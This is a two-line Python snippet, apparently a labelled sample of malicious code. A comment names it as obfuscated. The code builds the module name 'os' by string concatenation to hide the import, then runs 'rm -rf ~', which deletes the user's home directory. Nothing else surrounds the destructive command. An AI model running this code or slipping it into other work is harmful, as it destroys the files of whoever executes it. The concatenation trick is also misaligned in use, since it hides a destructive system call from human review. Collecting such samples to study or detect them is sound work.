# Malicious, obfuscated: __import__('o'+'s').system(...) hides the os import and deletes the home directory.
__import__("o" + "s").system("rm -rf ~")
